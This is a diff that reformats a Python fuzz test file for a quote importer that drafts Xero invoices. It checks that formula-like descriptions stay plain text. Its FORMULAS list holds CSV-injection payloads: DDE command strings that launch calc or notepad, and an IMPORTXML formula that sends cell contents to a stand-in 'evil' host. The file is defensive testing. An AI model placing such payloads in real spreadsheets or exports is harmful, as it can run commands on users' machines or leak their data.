@@ -20,8 +20,15 @@ from tests.unit.test_sources_fuzz import check
 
 FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 HEADER = ["Quote Number", "Customer", "Description", "Quantity", "Unit Price"]
-FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3+cmd|' /C notepad'!A1", "@HYPERLINK(\"http://x\")",
-            "=1+2", "\t=1+2", "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")"]
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)",
+    "-2+3+cmd|' /C notepad'!A1",
+    '@HYPERLINK("http://x")',
+    "=1+2",
+    "\t=1+2",
+    '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
+]
 CLIENT_ID = "0123456789ABCDEF0123456789ABCDEF"
 SECRET = "aB3_dE6-gH9iJ2kL5mN8oP1qR4sT7uV0wX3yZ6aB9cD2eF5g"
 
@@ -39,8 +46,21 @@ def sentences(result) -> list[str]:
 @FUZZ
 @given(
     st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40),
-    st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1",
-                     "shift_jis", "utf-32", "koi8-r", "mac-roman"]),
+    st.sampled_from(
+        [
+            "utf-8",
+            "utf-8-sig",
+            "utf-16",
+            "utf-16-le",
+            "utf-16-be",
+            "cp1252",
+            "latin-1",
+            "shift_jis",
+            "utf-32",
+            "koi8-r",
+            "mac-roman",
+        ]
+    ),
 )
 def test_any_encoding_loads_or_says_why_per_file(customer: str, encoding: str) -> None:
     text = as_csv([["Q-1", customer, "Work", "1", "10"]])
@@ -66,9 +86,20 @@ def test_common_encodings_keep_the_customer_name(tmp_path, encoding: str) -> Non
 def test_formula_text_stays_text_in_csv_and_json(formula: str) -> None:
     for result in (
         load_text(as_csv([["Q-1", "Acme", formula, "1", "10"]]), "q.csv"),
-        load_text(json.dumps({"quotes": [{"number": "Q-1", "contact_name": "Acme",
-                                         "lines": [{"description": formula, "quantity": 1,
-                                                    "unit_price": 10}]}]}), "q.json"),
+        load_text(
+            json.dumps(
+                {
+                    "quotes": [
+                        {
+                            "number": "Q-1",
+                            "contact_name": "Acme",
+                            "lines": [{"description": formula, "quantity": 1, "unit_price": 10}],
+                        }
+                    ]
+                }
+            ),
+            "q.json",
+        ),
     ):
         check(result)
         [quote] = result.quotes
@@ -77,9 +108,28 @@ def test_formula_text_stays_text_in_csv_and_json(formula: str) -> None:
 
 
 @FUZZ
-@given(st.sampled_from(["-1", "-0.5", "0", "-1e6", "-99999999999", "1000001", "1e400", "-inf", "nan",
-                        "=1+2", "1/2", "½", "--1", "1,000,000,000", "0x10"]),
-       st.sampled_from(["csv", "json"]))
+@given(
+    st.sampled_from(
+        [
+            "-1",
+            "-0.5",
+            "0",
+            "-1e6",
+            "-99999999999",
+            "1000001",
+            "1e400",
+            "-inf",
+            "nan",
+            "=1+2",
+            "1/2",
+            "½",
+            "--1",
+            "1,000,000,000",
+            "0x10",
+        ]
+    ),
+    st.sampled_from(["csv", "json"]),
+)
 def test_negative_or_absurd_quantities_are_a_row_sentence(quantity: str, kind: str) -> None:
     if kind == "csv":
         rows = [["Q-1", "Acme", "Work", quantity, "10"], ["Q-2", "Acme", "Fine", "2", "5"]]
@@ -87,8 +137,12 @@ def test_negative_or_absurd_quantities_are_a_row_sentence(quantity: str, kind: s
     else:
         lines = [{"description": "Work", "quantity": quantity, "unit_price": 10}]
         good = [{"description": "Fine", "quantity": 2, "unit_price": 5}]
-        document = {"quotes": [{"number": "Q-1", "contact_name": "Acme", "lines": lines},
-                               {"number": "Q-2", "contact_name": "Acme", "lines": good}]}
+        document = {
+            "quotes": [
+                {"number": "Q-1", "contact_name": "Acme", "lines": lines},
+                {"number": "Q-2", "contact_name": "Acme", "lines": good},
+            ]
+        }
         result = load_text(json.dumps(document), "q.json")
     check(result)
     assert [q.number for q in result.quotes] == ["Q-2"]  # the good quote is not held back
@@ -97,8 +151,9 @@ def test_negative_or_absurd_quantities_are_a_row_sentence(quantity: str, kind: s
 
 
 @pytest.mark.usefixtures("real_keyring")
-def test_a_formula_description_reaches_xero_verbatim_and_is_never_evaluated(sandbox, sandbox_app,
-                                                                             callback_ports):
+def test_a_formula_description_reaches_xero_verbatim_and_is_never_evaluated(
+    sandbox, sandbox_app, callback_ports
+):
     model = connect(sandbox, sandbox_app, callback_ports)
     try:
         rows = [[f"FX-{n}", "Acme Ltd", formula, "1", "10"] for n, formula in enumerate(FORMULAS)]
@@ -106,9 +161,11 @@ def test_a_formula_description_reaches_xero_verbatim_and_is_never_evaluated(sand
         with Ledger() as ledger:
             report = run(model, ledger, loaded.quotes)
         assert report.drafted == len(FORMULAS), report.summary()
-        held = {i["Reference"]: i["LineItems"][0]["Description"]
-                for i in sandbox.state.orgs[model.settings.tenant_id]["invoices"]
-                if str(i.get("Reference", "")).startswith("FX-")}
+        held = {
+            i["Reference"]: i["LineItems"][0]["Description"]
+            for i in sandbox.state.orgs[model.settings.tenant_id]["invoices"]
+            if str(i.get("Reference", "")).startswith("FX-")
+        }
         # As written, but for the control characters stripped when loading (a tab becomes a space).
         expected = {f"FX-{n}": formula.replace("\t", " ").strip(" ") for n, formula in enumerate(FORMULAS)}
         assert held == expected
@@ -122,8 +179,7 @@ junk = st.sampled_from(["", " ", "\n", "\r\n", "\t", "\u200b", "\u200c", "\u200d
 
 
 @FUZZ
-@given(st.lists(junk, max_size=4), st.lists(junk, max_size=4), st.lists(junk, max_size=4),
-       st.booleans())
+@given(st.lists(junk, max_size=4), st.lists(junk, max_size=4), st.lists(junk, max_size=4), st.booleans())
 def test_pasted_values_with_newlines_and_invisible_characters_are_accepted(before, inside, after, lower):
     def dirty(value: str) -> str:
         middle = len(value) // 2
